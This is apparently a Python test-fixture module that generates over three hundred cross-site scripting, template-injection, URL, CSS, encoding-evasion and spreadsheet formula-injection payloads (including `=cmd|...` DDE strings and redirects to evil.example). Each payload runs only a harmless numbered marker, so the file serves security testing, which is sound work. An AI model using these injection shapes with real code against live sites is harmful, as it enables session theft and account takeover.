"""More than three hundred scripts as somebody would type them into a field that is written out unescaped somewhere.

Each sets `window.__ran` to its own number and is short enough for every field there is.
"""

from __future__ import annotations

from itertools import count

MOST = 110
"""Letters in the longest: names may have 120."""

TAGS = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<ScRiPt >{}</sCrIpT\t>", "<script\n>{}</script\n>", "<script/x>{}</script>",
    "<script type=module>{}</script>", "<script type=text/javascript>{}</script>", "<script src=data:,{}></script>",
    '<script src="data:text/javascript,{}"></script>', "<script>//<!--\n{}</script>", "<script><!--\n{}\n--></script>",
    "<svg><script>{}</script></svg>", "<svg><script href=data:,{} /></svg>", "<svg><script xlink:href=data:,{} />",
    "<math><mtext></mtext><script>{}</script></math>", "<template><script>{}</script></template><script>{}</script>",
    "<noscript><p title='</noscript><script>{}</script>'>", "<plaintext><script>{}</script>", "<xmp></xmp><script>{}</script>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "<iframe src=javascript:parent.{}></iframe>",
    "<iframe src='java&#10;script:parent.{}'></iframe>", "<iframe src=data:text/html,<script>top.{}</script>></iframe>",
    "<object data=javascript:{}></object>", "<embed src=javascript:{}>", "<object data='data:text/html,<script>{}</script>'>",
    "<frameset onload={}>", "<base href=javascript:{}//>", "<link rel=stylesheet href=javascript:{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=import href=data:text/html,<script>{}</script>>",
)  # fmt: skip
ELEMENTS = (
    "<img src=x onerror={}>", "<IMG SRC=x OnErRoR={}>", "<img src=x onerror='{}'>", '<img src=x onerror="{}">', "<img/src=x/onerror={}>",
    "<img src=x\nonerror={}>", "<img src=x\tonerror={}>", "<img src=x\x0conerror={}>", "<img src onerror={}>", "<img src=x onerror=&#95;&#95;ran=1,{}>",
    "<image src=x onerror={}>", "<img srcset=x onerror={}>", "<img src=x onerror={}//", "<img src=data: onerror={}>", "<<img src=x onerror={}>",
    "<svg onload={}>", "<svg/onload={}>", "<svg onload={}//", "<svg\n onload={}>", "<svg><svg onload={}>", "<svg><g onload={}></g></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set onbegin={} attributeName=x>", "<svg><animatetransform onbegin={}>",
    "<svg><image href=x onerror={}>", "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>", "<svg><style><img src=x onerror={}></style>",
    "<svg><a xlink:href=javascript:{}><text y=9>x</text></a>", "<svg><use href=data:image/svg+xml,<svg/onload={}> />", "<svg><title><img src=x onerror={}></title>",
    "<math href=javascript:{}>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:{}>x", "<math><mi><img src=x onerror={}></mi></math>",
    "<body onload={}>", "<body onpageshow={}>", "<body onhashchange={}>", "<html onmouseover={}>", "<input autofocus onfocus={}>", "<input onblur={} autofocus><input autofocus>",
    "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<button autofocus onfocus={}>", "<a autofocus href=x onfocus={}>x</a>", "<div tabindex=1 autofocus onfocus={}>",
    "<details open ontoggle={}>", "<details ontoggle={} open><summary>x", "<video onerror={}><source src=x></video>", "<video src=x onerror={}>", "<audio src=x onerror={}>",
    "<audio onloadstart={} src=x>", "<video poster=x onloadstart={} src=x>", "<track onerror={} src=x>", "<object data=x onerror={}>", "<embed src=x onerror={}>",
    "<script src=x onerror={}></script>", "<link rel=stylesheet href=x onerror={}>", "<style onload={}></style>", "<style>@import 'x'</style><img src=x onerror={}>",
    "<marquee onstart={}>x</marquee>", "<marquee loop=1 width=0 onfinish={}>x</marquee>", "<iframe onload={}></iframe>", "<iframe src=x onload={}>",
    "<p style=animation-name:x onanimationstart={}>", "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={}>x",
    "<p id=x tabindex=1 onfocusin={}>x", "<form><button formaction=javascript:{}>x</button></form>", "<form action=javascript:{}><input type=submit>",
    "<isindex action=javascript:{} type=image>", "<a href=javascript:{}>x</a>", "<a href='&#106;avascript:{}'>x</a>", "<a href=' javascript:{}'>x</a>", "<a href=java\tscript:{}>x</a>",
    "<a href=JaVaScRiPt:{}>x</a>", "<a href=data:text/html,<script>{}</script>>x</a>", "<a href=vbscript:{}>x</a>", "<a target=_blank href=javascript:{}>x</a>", "<area href=javascript:{}>",
    "<div onclick={}>x</div>", "<div onmouseover={} style=position:fixed;inset:0>", "<div onpointerover={} style=position:fixed;inset:0>", "<dialog open onclose={}><form method=dialog>",
    "<div popover id=p ontoggle={}>x</div><button popovertarget=p>", "<div contenteditable onbeforeinput={}>x", "<br size='&{{{}}}'>", "<table background=javascript:{}>",
    "<body background=javascript:{}>", "<img dynsrc=javascript:{}>", "<input type=image src=x onerror={}>", "<keygen autofocus onfocus={}>", "<bgsound src=javascript:{}>", "<x onclick={}>x</x>",
    "<custom-x onfocus={} tabindex=0 autofocus>", "<img src=x loading=lazy onerror={}>", "<video autoplay onplay={}><source src=data:,>",
)  # fmt: skip
BREAKERS = (
    '"', "'", "`", '">', "'>", '"/>', "-->", "]]>", "*/", "</title>", "</script>", "</style>", "</textarea>", "</noscript>", "</option></select>",
    "</svg>", "</template>", "<!--><!", '"></a>', '\\"', "%22%3E", "&quot;&gt;", "\u201d>", "\uff1e",
)  # fmt: skip
BEHIND = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    " autofocus onfocus={} x=",
    " onmouseover={} style=position:fixed;inset:0 x=",
)
STRINGS = (
    '";{};//', "';{};//", "`;{};//", '\\";{};//', "\\';{};//", "\n{};//", "\u2028{};//", "\u2029{};//", '"}};{};//', "']}};{};//", '"-({})-"', "'+({})+'", "`+({})+`",
    "${{{}}}", "`${{{}}}`", "*/{}/*", "//\n{}", "<!--\n{}", "-->\n{}", '");{};("', "');{};('", '"],"x":[{}],"', "\\u0022;{};//", "\\x27;{};//", "</script><script>{}//",
    "<\\/script><script>{}</script>", "&lt;/script&gt;<script>{}</script>", "__proto__={}", "constructor.constructor('{}')()", "[].filter.constructor('{}')()",
)  # fmt: skip
TEMPLATES = (
    "{{{{constructor.constructor('{}')()}}}}", "{{{{{}}}}}", "{{{{{{{}}}}}}}", "{{%raw {}%}}", "<%={}%>", "<%-{}-%>", "#{{{}}}", "*{{{}}}", "[[${{{}}}]]", "@({})", "@@={}", "@@=constructor.constructor('{}')()",
    "@@#{}", "@@type:{}", "{{%config%}}<script>{}</script>", "{{%scripts%}}{}", "@first@<script>{}</script>", "@modules@{}", "{{$on.constructor('{}')()}}", "{{_c.constructor('{}')()}}", "v-html={}", "<x v-on:click={}>", "<x ng-focus={} autofocus tabindex=1>", "<x x-init={}>", "<x :class={}>",
    "[x](javascript:{})", "![x](javascript:{})", '![x](x"onerror="{})', "[x]: javascript:{}", "<javascript:{}>", "[x](data:text/html,<script>{}</script>)", "`<img src=x onerror={}>`", "**<img src=x onerror={}>**", "|<img src=x onerror={}>|", "$\\href{{javascript:{}}}{{x}}$",
    "%{{x}}<img src=x onerror={}>", "%{{y|<b onload={}>}}", "<b><a href='javascript:{}'>x</a></b>", '<sub><a href="javascript:{}">x</a></sub>', '<span style="background:url(javascript:{})">x</span>', "<extra><img src=x onerror={}></extra>",
    '["get","<img src=x onerror={}>"]', '["literal",["{}"]]', '{{"html":"<img src=x onerror={}>"}}', '{{"__html":"<img src=x onerror={}>"}}', '{{"type":"Script","props":{{"x":"{}"}}}}', '{{"e":"script","c":["{}"]}}', '{{"e":"img","a":{{"src":"x","onError":"{}"}}}}',
)  # fmt: skip
ADDRESSES = (
    "javascript:{}", "JAVASCRIPT:{}", "java\tscript:{}", "java\nscript:{}", " javascript:{}", "\x01javascript:{}", "javascript://%0a{}", "javascript:/**/{}", "javascript&colon;{}", "&#106;avascript:{}",
    "jav&#x09;ascript:{}", "data:text/html,<script>{}</script>", "data:image/svg+xml,<svg onload={}>", "vbscript:{}", "view-source:javascript:{}", "blob:javascript:{}", "//evil.example/?{}", "/\\evil.example/?{}", "https:evil.example/?{}", "tel:javascript:{}", "feed:javascript:{}", "/../javascript:{}",
)  # fmt: skip
STYLES = (
    "x:expression({})", "background:url(javascript:{})", "behavior:url(x.htc#{})", "-moz-binding:url(x#{})", "}}</style><script>{}</script>", "}}*{{background:url(javascript:{})}}",
    "@import 'javascript:{}';", "<style>*{{background:url('javascript:{}')}}</style>", "<div style=\"background:url('javascript:{}')\">", "red;background:url(//evil.example/{})", "\\3c script>{}\\3c/script>",
)  # fmt: skip
LETTERS = (
    "\uff1cscript\uff1e{}\uff1c/script\uff1e", "\u02c2script\u02c3{}", "\u2039img src=x onerror={}\u203a", "<\u200bscript>{}</script>", "<scr\u00adipt>{}</script>", "\ufeff<script>{}</script>", "\u202e<script>{}</script>", "<\u017fcript>{}</script>", "<\u0131mg src=x onerror={}>",
    "%3Cscript%3E{}%3C/script%3E", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "&amp;lt;script&amp;gt;{}", "\\u003cscript\\u003e{}", "\\x3cimg src=x onerror={}\\x3e", "+ADw-script+AD4-{}+ADw-/script+AD4-", "\u00bcscript\u00be{}\u00bc/script\u00be", "村<img src=x onerror={}>民", "𠮷<svg onload={}>", "👩‍🌾<img src=x onerror={}>",
)  # fmt: skip
SHEETS = (
    '=HYPERLINK("javascript:{}")', "=cmd|'/C {}'!A0", "+1+cmd|'{}'!A0", "-1+{}", "@SUM({})", "\t={}", "=1+1;{}", "|{}", "%{}",
)  # fmt: skip
POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/({})//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd={}//>",
    "'\"--></style></script><svg onload={}>{{{{7*7}}}}${{7*7}}",
    "\"'`><img src=x onerror={}>//\\u003c*/", "<!--'\"><svg/onload={}>--><script>{}</script>", "';{}//\\';{}//\";{}//--></script><script>{}</script>",
    "</script><svg onload={}>'\"`-->]]>", "\" onfocus={} autofocus '><script>{}</script>`${{{}}}",
)  # fmt: skip


def _all() -> tuple[str, ...]:
    behind = tuple(b.replace("{", "{{").replace("}", "}}") + t for b in BREAKERS for t in BEHIND)
    shapes = (*TAGS, *ELEMENTS, *behind, *STRINGS, *TEMPLATES, *ADDRESSES, *STYLES, *LETTERS, *SHEETS, *POLYGLOTS)
    numbers = count(1)
    return tuple(_filled(shape, next(numbers)) for shape in shapes)


def _filled(shape: str, number: int) -> str:
    action = f"__ran={number}"
    return shape.format(*[action] * (shape.count("{}") or 1))


PAYLOADS = _all()
